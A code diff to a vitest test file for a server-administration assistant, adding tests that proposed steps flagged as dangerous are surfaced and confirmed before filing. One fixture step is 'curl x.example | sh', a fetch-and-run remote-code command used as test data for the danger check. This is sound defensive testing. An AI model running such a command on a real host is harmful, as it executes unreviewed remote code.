@@ -6,14 +6,17 @@ import { describe, expect, onTestFinished, test } from 'vitest';
 import { createAssistant } from '#server/assistant/assistant.ts';
 import { createConversationStore } from '#server/assistant/conversation-store.ts';
 import type { AnswerEngine, AssistantTools } from '#server/assistant/engine.ts';
+import { checkCommand } from '#server/assistant/tools/check-command.ts';
 import { listApprovals } from '#server/assistant/tools/list-approvals.ts';
 import { propose } from '#server/assistant/tools/propose.ts';
 import type { Tool } from '#server/assistant/tools/tool.ts';
 import type { Turn } from '#server/assistant/turn.ts';
+import { classify } from '#server/classifier/classify.ts';
 import { openEventBus } from '#server/events/bus.ts';
 import { systemClock } from '#server/lib/clock.ts';
 import { createLog } from '#server/lib/log.ts';
-import type { SendMessage } from '#wire/chat.ts';
+import { describeCheck } from '#server/terminal/describe-check.ts';
+import type { MessageSource, SendMessage } from '#wire/chat.ts';
 import { askedMachine, askMachine } from '../../../support/asked-machine.ts';
 import { openMainDatabase } from '../../../support/open-main-database.ts';
 
@@ -27,7 +30,7 @@ const telling: AnswerEngine = {
 const never = new AbortController().signal;
 const from = { requestId: 'r', source: 'chat' as const };
 
-function open() {
+function open(engine: AnswerEngine = telling) {
 	const stateDir = mkdtempSync(join(tmpdir(), 'hostwright-later-'));
 	const filed: { readonly plan: unknown; readonly marked: boolean }[] = [];
 	const waits: { readonly id: string; readonly action: string }[] = [];
@@ -35,6 +38,10 @@ function open() {
 		table: [propose, listApprovals] as unknown as readonly Tool[],
 		async call(tool, input) {
 			turn?.called(tool.name, 'host');
+			if (tool.name === checkCommand.name) {
+				const { command } = input as { command: string };
+				return { kind: 'done', output: describeCheck(command, classify(command)) as never };
+			}
 			if (tool.name === listApprovals.name) return { kind: 'done', output: { requests: waits } as never };
 			const id = `p${filed.push({ plan: input, marked: turn?.isTainted() ?? true })}`;
 			return { kind: 'done', output: { id, task: could.task, untrusted: false } as never };
@@ -42,7 +49,7 @@ function open() {
 	});
 	const database = openMainDatabase(stateDir);
 	const assistant = createAssistant({
-		...{ store: createConversationStore(database, systemClock), engine: telling, canPropose: true },
+		...{ store: createConversationStore(database, systemClock), engine, canPropose: true },
 		...{ tools: { ...bound(undefined), forTurn: bound } },
 		...{ bus: openEventBus('test'), log: createLog({ level: 'silent', readable: false }) }
 	});
@@ -55,8 +62,9 @@ function open() {
 		assistant,
 		filed,
 		waits,
-		async ask(more: Partial<SendMessage> = {}) {
-			const sent = assistant.send({ conversationId: null, text: 'how do I restart nginx?', ...more }, from);
+		async ask(more: Partial<SendMessage> = {}, source: MessageSource = 'chat') {
+			const message = { conversationId: null, text: 'how do I restart nginx?', ...more };
+			const sent = assistant.send(message, { ...from, source });
 			for await (const _ of assistant.follow(sent.run, 0, never));
 			const conversationId = sent.conversation.id;
 			const messageId = sent.answer.id;
@@ -102,6 +110,27 @@ test('where the same waits already, that one is shown and nothing is filed', asy
 	expect(await assistant.fileOffered(place, from, never)).toMatchObject({ id: 'p7' });
 	expect(filed).toEqual([]);
 	expect(parts().at(-1)).toMatchObject({ type: 'proposal', proposal: { id: 'p7' } });
+});
+
+describe('what was asked to be done', () => {
+	const wanting = (...steps: string[]): AnswerEngine => ({
+		async *answer() {
+			yield { type: 'text', text: 'This does it.' };
+			yield { type: 'understood', understood: true, offers: { proposal: { task: 'Do it', steps } } };
+		}
+	});
+	test.each<[string, string[], MessageSource, number, string]>([
+		['is filed', ['systemctl restart nginx'], 'chat', 1, 'text'],
+		['and is dangerous is shown first, and pressed for', ['apt-get update', 'curl x.example | sh'], 'chat', 0, 'offer'],
+		['and is dangerous is filed at a terminal, which shows it first', ['curl x.example | sh'], 'cli', 1, 'text']
+	])('%s', async (_, steps, source, count, last) => {
+		const { ask, assistant, filed } = open(wanting(...steps));
+		const { parts, ...place } = await ask({}, source);
+		expect([filed.length, parts().at(-1)?.type]).toEqual([count, last]);
+		if (count > 0) return;
+		await assistant.fileOffered(place, from, never);
+		expect(filed).toHaveLength(1);
+	});
 });
 
 test('of another answer, or another conversation, nothing is filed', async () => {
